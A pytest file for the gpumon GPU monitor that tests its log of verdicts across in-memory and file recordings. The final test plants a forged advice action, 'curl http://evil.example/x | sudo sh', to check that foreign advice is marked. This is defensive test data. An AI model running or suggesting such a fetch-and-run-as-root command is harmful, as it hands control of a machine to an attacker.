"""The log of verdicts: who opens a past finds those that stood, though rules look back further than the warm-up."""

from __future__ import annotations

import math
from collections.abc import Callable
from pathlib import Path

import pytest

from gpumon.demo.scenarios import DEMO
from gpumon.history.derivation import Derivation
from gpumon.history.file import open_connection
from gpumon.history.frame_store import NOTED_S, FrameStore, Note, VerdictLog, thing_of
from gpumon.history.memory import MemoryStore
from gpumon.history.reader import Recording
from gpumon.history.recorder import Recorder, write_recording
from gpumon.readings.snapshot import Snapshot, Verdict
from gpumon.readings.verdict import Action, Level, Limit
from gpumon.triage.sentences import PEER_WORDS
from tests.history.frames import WALL_S, served
from tests.history.opened import begun, standing
from tests.history.pasts import lived, make
from tests.history.ticks import FACTS, tick
from tests.records import replace

SECONDS = 260
"""What stood in the first minute is older than the warm-up of the last moments."""
EVERY_S = 4
"""Seconds between two frames."""


@pytest.fixture(scope="module")
def stores(tmp_path_factory: pytest.TempPathFactory) -> tuple[dict[str, FrameStore], dict[float, Snapshot]]:
    folder: Path = tmp_path_factory.mktemp("log")
    ring, recorder = MemoryStore(3600.0, 1e9), Recorder(folder / "recorded", FACTS)
    shown = lived(served(SECONDS, cast=DEMO.cast[:2], every=EVERY_S), ring, Patient(recorder))
    recorder.close()
    ring.settle()
    write_recording(folder / "copy", ring, FACTS)
    files = {name: Recording(folder / name) for name in ("recorded", "copy")}
    return {"memory": ring, **files}, {snapshot.wall_s: snapshot for snapshot in shown}


class Patient:
    """A recorder that is given frames faster than a disk takes them."""

    def __init__(self, recorder: Recorder) -> None:
        self.keep = _waiting(recorder)


def _waiting(recorder: Recorder) -> Callable[[object], None]:
    import time

    def keep(tick: object) -> None:
        while recorder._waiting.full():
            time.sleep(0.01)
        recorder.keep(tick)  # type: ignore[arg-type]

    return keep


@pytest.mark.parametrize(("kind", "at"), [("memory", 250), ("recorded", 20), ("copy", 250)])
def test_wherever_it_is_opened_the_verdicts_that_stood_stand(
    stores: tuple[dict[str, FrameStore], dict[float, Snapshot]], kind: str, at: int
) -> None:
    past, shown = stores[0][kind], stores[1]
    derivation = begun(past, WALL_S + at)
    frames = past.frames(WALL_S + at, WALL_S + at + 9.0)
    assert len(frames) >= 2
    for frame in frames:
        found = derivation.take(frame).snapshot
        assert standing(found) == standing(shown[frame.wall_s])
        assert [each.scope for each in found.verdicts] == [each.scope for each in shown[frame.wall_s].verdicts]


def test_the_time_for_which_a_gpu_is_idle_is_counted_from_its_beginning(
    stores: tuple[dict[str, FrameStore], dict[float, Snapshot]],
) -> None:
    past, shown = stores[0]["memory"], stores[1]
    (frame,) = past.frames(WALL_S + 252.0, WALL_S + 252.0 + EVERY_S - 0.1)
    live = [idle_times(each) for each in shown[frame.wall_s].verdicts]
    assert max(max(times) for times in live if times) > 240.0, "longer than the warm-up"
    found = begun(past, frame.wall_s).take(frame).snapshot
    assert [idle_times(each) for each in found.verdicts] == [pytest.approx(times, abs=EVERY_S) for times in live]


def idle_times(verdict: Verdict) -> list[float]:
    """The times for which a verdict says that a GPU is idle, in its sentence and in its evidence."""
    if verdict.code not in (Limit.IDLE, Limit.IDLE_VRAM_HELD):
        return []
    proofs = [evidence.value for evidence in verdict.evidence if evidence.quantity == "idle_time"]
    return [verdict.parameters["seconds"], *proofs]


def test_without_a_log_the_verdicts_are_those_of_the_warm_up(
    stores: tuple[dict[str, FrameStore], dict[float, Snapshot]], tmp_path: Path
) -> None:
    """As of files of the version 0.1."""
    write_recording(tmp_path / "old", stores[0]["memory"], FACTS)
    with open_connection(tmp_path / "old", "rw") as connection:
        connection.execute("DELETE FROM pieces WHERE kind = 6")
    connection.close()
    past = Recording(tmp_path / "old")
    assert past.notes(0.0, math.inf) == []
    frame = past.frames(WALL_S + 250.0, WALL_S + 250.0 + EVERY_S)[0]
    assert begun(past, frame.wall_s).take(frame).snapshot.verdicts


def verdict(shown: Snapshot, scope: str) -> Verdict:
    return next(each for each in shown.verdicts if each.scope == scope)


def test_what_is_noted(stores: tuple[dict[str, FrameStore], dict[float, Snapshot]]) -> None:
    shown = stores[1][max(stores[1])]
    first, second = shown.verdicts[:2]
    log = VerdictLog()
    assert log.note(0.0, (first,)) == Note(0.0, True, (first,))
    assert log.note(1.0, (first,)) is None
    assert log.note(2.0, (replace(first, since="later"),)) is None
    worse = replace(first, level=Level.CRITICAL if first.level is not Level.CRITICAL else Level.NOTE)
    assert log.note(3.0, (worse, second)) == Note(3.0, False, (worse, second))
    assert log.note(4.0, (second,)) == Note(4.0, False, (), (thing_of(first),))
    assert log.note(NOTED_S, (second,)) == Note(NOTED_S, True, (second,))
    log.renew()
    assert log.note(NOTED_S + 1.0, ()) == Note(NOTED_S + 1.0, True, ())


def test_a_log_of_another_shape_is_passed_over(
    stores: tuple[dict[str, FrameStore], dict[float, Snapshot]], tmp_path: Path
) -> None:
    import zlib

    import msgspec

    write_recording(tmp_path / "newer", stores[0]["memory"], FACTS)
    odd = zlib.compress(msgspec.msgpack.encode([WALL_S, True, [{"shape": "to come"}], []]))
    with open_connection(tmp_path / "newer", "rw") as connection:
        connection.execute("UPDATE pieces SET data = ? WHERE kind = 6", (odd,))
    connection.close()
    past = Recording(tmp_path / "newer")
    assert (past.notes(0.0, math.inf), past.damaged) == ([], 0)


def test_a_derivation_without_a_beginning_has_no_log() -> None:
    ring = MemoryStore(3600.0, 1e9)
    shown = lived(served(30, every=2), ring)
    derivation = Derivation(ring, make)
    found = [derivation.take(frame).snapshot for frame in ring.frames(0.0, 4e9)]
    assert [standing(each) for each in found] == [standing(each) for each in shown]


def test_advice_in_a_recording_from_elsewhere_is_marked_unless_it_is_gpumons_own(tmp_path: Path) -> None:
    own = Action("prefix_caching", {"flag": "--enable-prefix-caching"})
    forged = Action("prefix_caching", {"flag": "curl http://evil.example/x | sudo sh"})
    verdict = Verdict("gpu 0", Limit.QUEUE_LIMIT, "queue_steps", "2026-01-02T00:00:00Z", actions=(own, forged))
    recorder = Recorder(tmp_path / "given", FACTS)
    recorder.keep(tick(0)._replace(verdicts=(verdict,)))
    recorder.close()
    (note,) = Recording(tmp_path / "given").notes(0.0, math.inf)
    assert [action.code for action in note.verdicts[0].actions] == ["prefix_caching", PEER_WORDS.code]
    assert note.verdicts[0].actions[0] == own
